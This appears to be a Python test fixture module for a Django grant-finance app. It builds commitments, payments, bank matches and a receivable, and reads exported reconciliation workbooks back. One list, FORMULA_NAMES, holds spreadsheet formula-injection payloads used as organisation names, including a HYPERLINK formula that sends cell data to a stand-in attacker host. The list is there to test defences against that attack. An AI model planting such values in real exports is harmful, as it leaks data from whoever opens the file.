"""A year of the money chain for the reconciliation workbook: two budget lines, beneficiaries (some named like
formulas), commitments, payment requests due, paid and cancelled, payment orders matched to bank lines (one match
undone), an amount to recover and its repayment, last year's request that must not count; and a reader of the
workbook files."""

import datetime as dt
import hashlib
import re
from dataclasses import dataclass
from decimal import Decimal
from io import BytesIO
from itertools import count

from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from core.models import Organisation
from finance.models import (
    BankStatement,
    Commitment,
    LineMatch,
    MatchMethod,
    Payable,
    PayableStatus,
    PaymentOrder,
    Receivable,
    StatementLine,
    TreasuryAccount,
)
from finance.services.commitments import commitment_create, envelope_ensure, payable_create
from finance.services.payments import payable_mark_paid
from tests.factories import OrganisationFactory
from tests.factories.grants import BudgetLineFactory

# What a hostile or careless user could name an organisation: each would run, or be read, as a formula.
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "@SUM(A1)", "-2", "  =1+1", "\t=2+2"]
_keys = count(1)


@dataclass
class Chain:
    year: int
    today: dt.date
    organisations: list[Organisation]
    payables: list[Payable]
    orders: list[PaymentOrder]


def _account() -> TreasuryAccount:
    return TreasuryAccount.objects.get_or_create(
        iban="BE68539007547034", defaults={"bic": "GKCCBEBB", "holder": "BPL", "purpose": "payments"}
    )[0]


def bank_line(*, amount: Decimal, booked: dt.date, actor, e2e: str = "", ogm: str = "") -> StatementLine:
    """One statement with one line, as an import leaves it (the import itself is another area's)."""
    n = next(_keys)
    statement = BankStatement.objects.create(
        account=_account(),
        format="coda",
        number=f"{n:03d}",
        statement_date=booked,
        opening_balance=Decimal("0.00"),
        closing_balance=amount,
        file_name=f"statement-{n}.cod",
        file_sha256=hashlib.sha256(f"statement-{n}".encode()).hexdigest(),
        content=b"-",
        imported_by=actor,
    )
    return StatementLine.objects.create(
        statement=statement,
        sequence=1,
        booking_date=booked,
        value_date=booked,
        amount=amount,
        end_to_end_id=e2e,
        structured_communication=ogm,
    )


def order_for(payable: Payable, actor, *, status: str = "paid") -> PaymentOrder:
    n = next(_keys)
    return PaymentOrder.objects.create(
        payable=payable,
        commitment=payable.commitment,
        budget_line=payable.commitment.envelope.budget_line,
        beneficiary=payable.beneficiary,
        creditor_name=payable.beneficiary.name_fr[:140],
        creditor_iban="BE71096123456769",
        amount=payable.amount,
        end_to_end_id=f"E2E-TEST-{n:06d}",
        status=status,
        prepared_by=actor,
    )


def match(line: StatementLine, amount: Decimal, **target) -> LineMatch:
    return LineMatch.objects.create(line=line, amount=amount, method=MatchMethod.END_TO_END, **target)


def build_chain(finance_officer) -> Chain:
    today = timezone.localdate()
    year = today.year
    line_a = BudgetLineFactory()
    line_b = BudgetLineFactory(code="10.005.38.01.43.22", label_fr="Subsides informatiques", label_nl="IT-subsidies")
    sport = envelope_ensure(code="call-sport", label="Sport", budget_line=line_a, amount=Decimal("5000000"))
    it = envelope_ensure(code="call-it", label="IT", budget_line=line_b, amount=Decimal("5000000"))
    organisations = [
        OrganisationFactory(name_fr="Commune d'Evere", name_nl="Gemeente Evere", kbo_number="0207356279"),
        *(OrganisationFactory(name_fr=name, name_nl=name) for name in FORMULA_NAMES),
    ]
    payables, orders = [], []
    for index, organisation in enumerate(organisations):
        envelope = sport if index % 2 == 0 else it
        commitment = commitment_create(
            envelope_id=envelope.pk,
            beneficiary=organisation,
            amount=Decimal("100000.00") + index,
            reference=f"AAP-{year}-{index:04d}",
            key=f"wb-commitment-{index}",
        )
        payables.append(
            payable_create(
                commitment=commitment,
                amount=Decimal("80000.00") + index,
                reference=f"AAP-{year}-{index:04d}-T1",
                label="Advance (80 %)",
                key=f"wb-tranche-{index}-1",
            )
        )
    # Paid: the first four; the first three are on a bank statement, the fourth not yet.
    for payable in payables[:4]:
        payable_mark_paid(actor=finance_officer, payable_id=payable.pk, paid_on=today)
        payable.refresh_from_db()
        orders.append(order_for(payable, finance_officer))
    for order in orders[:3]:
        line = bank_line(amount=-order.amount, booked=today, actor=finance_officer, e2e=order.end_to_end_id)
        match(line, order.amount, payment_order=order)
    # A match undone (a wrong one) counts for nothing.
    wrong = bank_line(amount=Decimal("-999.99"), booked=today, actor=finance_officer)
    LineMatch.objects.filter(pk=match(wrong, Decimal("999.99"), payment_order=orders[3]).pk).update(
        undone_at=timezone.now(), undone_by=finance_officer, undo_reason="Wrong line"
    )
    # Cancelled: never counted as due.
    Payable.objects.filter(pk=payables[-1].pk).update(status=PayableStatus.CANCELLED)
    # Last year's payment request and commitment: not in this year's workbook.
    old = payable_create(
        commitment=Commitment.objects.get(idempotency_key="wb-commitment-0"),
        amount=Decimal("1000.00"),
        reference="OLD",
        label="Old",
        key="wb-old",
    )
    last_year = timezone.make_aware(dt.datetime(year - 1, 6, 1, 12))
    Payable.objects.filter(pk=old.pk).update(due_since=last_year)
    Commitment.objects.filter(idempotency_key="wb-commitment-5").update(created_at=last_year)
    # An amount to recover from Evere, half repaid on a bank line.
    receivable = Receivable.objects.create(
        commitment=payables[0].commitment,
        debtor=organisations[0],
        amount=Decimal("5000.00"),
        reference="REC-1",
        label="Unjustified",
        idempotency_key="wb-receivable-1",
    )
    match(bank_line(amount=Decimal("2500.00"), booked=today, actor=finance_officer), Decimal("2500.00"),
          receivable=receivable)  # fmt: skip
    return Chain(year=year, today=today, organisations=organisations, payables=payables, orders=orders)


# Reading a workbook back ---------------------------------------------------------------------------------------

_SUBTOTAL = re.compile(r"^=SUBTOTAL\(9,([A-Z]+)(\d+):([A-Z]+)(\d+)\)$")
_REFERENCE = re.compile(r"^=(?:'((?:[^']|'')+)'|([^'!]+))!([A-Z]+\d+)$")


def open_workbook(data: bytes | str):
    return load_workbook(BytesIO(data) if isinstance(data, bytes) else data)


def headers(sheet: Worksheet) -> list[str]:
    return [cell.value for cell in sheet[1]]


def data_rows(sheet: Worksheet) -> list[list]:
    """The rows between the header and the totals row."""
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    return rows[:-1]


def total_of(workbook, sheet: Worksheet, coordinate: str) -> Decimal:
    """What a spreadsheet program computes for a totals cell (SUBTOTAL over a column) or a summary cell (a
    reference to another sheet's total), from the values in the file. Anything else fails the test."""
    formula = sheet[coordinate].value
    reference = _REFERENCE.match(formula or "")
    if reference:
        title = (reference.group(1) or "").replace("''", "'") or reference.group(2)
        return total_of(workbook, workbook[title], reference.group(3))
    subtotal = _SUBTOTAL.match(formula or "")
    assert subtotal, f"{sheet.title}!{coordinate} is not a total: {formula!r}"
    column, first, last = subtotal.group(1), int(subtotal.group(2)), int(subtotal.group(4))
    assert column == subtotal.group(3)
    values = [sheet[f"{column}{row}"].value for row in range(first, last + 1)]
    return sum((Decimal(str(value)) for value in values if isinstance(value, int | float)), Decimal("0")).quantize(
        Decimal("0.01")
    )


def totals_by_header(workbook, sheet: Worksheet) -> dict[str, Decimal]:
    """Each totalled column's total, by its header."""
    last = sheet.max_row
    found = {}
    for cell in sheet[last]:
        if isinstance(cell.value, str) and cell.value.startswith("=SUBTOTAL"):
            found[sheet.cell(row=1, column=cell.column).value] = total_of(workbook, sheet, cell.coordinate)
    return found
